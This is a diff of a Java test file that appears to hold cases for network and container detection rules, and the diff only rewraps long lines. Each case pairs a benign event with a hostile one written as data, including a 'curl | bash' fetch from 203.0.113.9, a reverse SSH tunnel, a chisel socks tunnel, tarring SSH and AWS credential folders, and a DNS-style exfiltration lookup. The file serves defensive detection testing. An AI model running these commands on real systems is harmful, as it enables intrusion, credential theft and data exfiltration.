@@ -30,8 +30,10 @@ final class NetworkRuleCases {
 
     private static List<RuleCase> c2() {
         return List.of(
-                of("Shell connected to an outside address", connect(INTRUDER, OUTSIDE, 443), connect(INTRUDER, "10.2.0.9", 5432)),
-                of("Shell connected to an outside address", connect(INTRUDER, "2001:db8::9", 443), connect(INTRUDER, OUTSIDE, 53)),
+                of("Shell connected to an outside address", connect(INTRUDER, OUTSIDE, 443), connect(INTRUDER, "10.2.0.9",
+                        5432)),
+                of("Shell connected to an outside address", connect(INTRUDER, "2001:db8::9", 443), connect(INTRUDER, OUTSIDE,
+                        53)),
                 of("Outside connection to a port of remote shells", connect(SERVER, OUTSIDE, 4444),
                         connect(SERVER, "10.2.0.9", 4444)),
                 of("Chat network contacted", connect(SERVER, OUTSIDE, 6667), connect(SERVER, OUTSIDE, 6379)),
@@ -40,7 +42,8 @@ final class NetworkRuleCases {
                 of("Onion network used", exec(typed("/usr/bin/torsocks", "id")), exec(typed("/usr/bin/sort", "tor"))),
                 of("Tunnel started in a running container", exec(typed("/opt/chisel", "client 203.0.113.9:80 R:socks")),
                         exec(running("/usr/local/bin/cloudflared", "tunnel run", null))),
-                of("Tunnel started in a running container", exec(typed("/usr/bin/ssh", "-N -R 8022:localhost:22 x@203.0.113.9")),
+                of("Tunnel started in a running container", exec(typed("/usr/bin/ssh",
+                        "-N -R 8022:localhost:22 x@203.0.113.9")),
                         exec(scripted("/usr/bin/ssh", "-N backup@10.2.0.9"))),
                 of("Fetched script handed to a shell", exec(typed("/bin/sh", "-c curl -fs http://203.0.113.9/a.sh | bash")),
                         exec(typed("/bin/sh", "-c curl -fs http://10.2.0.9/health | grep ok"))),
@@ -66,7 +69,8 @@ final class NetworkRuleCases {
                         open(SERVER, "/dev/cpu/0/msr", O_RDONLY)),
                 of("Processor tuned from a container", open(SERVER, "/proc/sys/vm/nr_hugepages", O_WRONLY),
                         open(running("/sbin/sysctl", "-w vm.nr_hugepages=128", null), "/proc/sys/vm/nr_hugepages", O_WRONLY)),
-                of("Rival miners looked for", exec(tool("/usr/bin/pkill", "-f xmrig")), exec(tool("/usr/bin/pkill", "-f worker"))));
+                of("Rival miners looked for", exec(tool("/usr/bin/pkill", "-f xmrig")), exec(tool("/usr/bin/pkill",
+                        "-f worker"))));
     }
 
     private static List<RuleCase> lateral() {
@@ -108,7 +112,8 @@ final class NetworkRuleCases {
                         exec(tool("/usr/bin/curl", "https://api.shop.example/botany"))),
                 of("Secrets packed", exec(tool("/bin/tar", "czf out.tgz /root/.ssh /root/.aws")),
                         exec(tool("/bin/tar", "czf out.tgz /var/lib/app"))),
-                of("Long name looked up by a tool", exec(tool("/usr/bin/dig", "a".repeat(60) + "." + "b".repeat(40) + ".x.example")),
+                of("Long name looked up by a tool", exec(tool("/usr/bin/dig",
+                        "a".repeat(60) + "." + "b".repeat(40) + ".x.example")),
                         exec(tool("/usr/bin/dig", "+short a-service-with-a-long-name.a-long-namespace.svc.cluster.local"))),
                 of("Cloud storage or file transfer client started", exec(tool("/usr/bin/rclone", "copy /data r:x")),
                         exec(running("/usr/bin/rclone", "copy /data r:x",
